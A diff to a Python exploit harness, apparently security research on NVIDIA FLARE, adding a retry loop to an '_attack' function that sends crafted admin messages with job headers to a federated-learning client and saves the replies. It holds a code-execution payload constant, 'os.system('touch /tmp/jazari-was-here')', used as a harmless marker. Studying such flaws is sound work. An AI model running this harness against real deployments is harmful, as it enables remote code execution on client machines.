@@ -19,6 +19,7 @@ from typing import Any
 from jazari.studies.flare import jobs, process
 
 JOB = "11111111-1111-4111-8111-111111111111"
+TRIES = 25
 CODE = b"import os\nos.system('touch /tmp/jazari-was-here')\n"
 
 
@@ -71,20 +72,29 @@ def _text(reply: Any) -> str:
     return json.dumps(body, default=str) if not isinstance(body, str) else body
 
 
-def _attack(engine: Any, folder: Path, run: str) -> None:
+def _send(engine: Any, token: str, topic: str, body: Any, headers: dict[str, Any]) -> Any:
     from nvflare.private.admin_defs import Message
 
+    message = Message(topic=topic, body=body)
+    for key, value in headers.items():
+        message.set_header(key, value)
+    with engine.new_context() as fl_ctx:
+        answered = engine.server.admin_server.send_requests({token: message}, fl_ctx, timeout_secs=5)
+    return answered[0].reply if answered else None
+
+
+def _attack(engine: Any, folder: Path, run: str) -> None:
     while not engine.client_manager.clients:
         time.sleep(0.1)
     replies: dict[str, str] = {}
     token, client = next(iter(engine.client_manager.clients.items()))
     for name, (topic, body, headers) in _messages(client.name, run).items():
-        message = Message(topic=topic, body=body)
-        for key, value in {"job_id": JOB, "app_name": jobs.APP, **headers}.items():
-            message.set_header(key, value)
-        with engine.new_context() as fl_ctx:
-            answered = engine.server.admin_server.send_requests({token: message}, fl_ctx, timeout_secs=5)
-        replies[name] = _text(answered[0].reply) if answered else ""
+        sent = {"job_id": JOB, "app_name": jobs.APP, **headers}
+        for _ in range(TRIES):
+            if (reply := _send(engine, token, topic, body, sent)) is not None:
+                break
+            time.sleep(0.2)  # Just connected, and not all there yet.
+        replies[name] = _text(reply)
     (folder / "replies.json").write_text(json.dumps(replies))
 
 
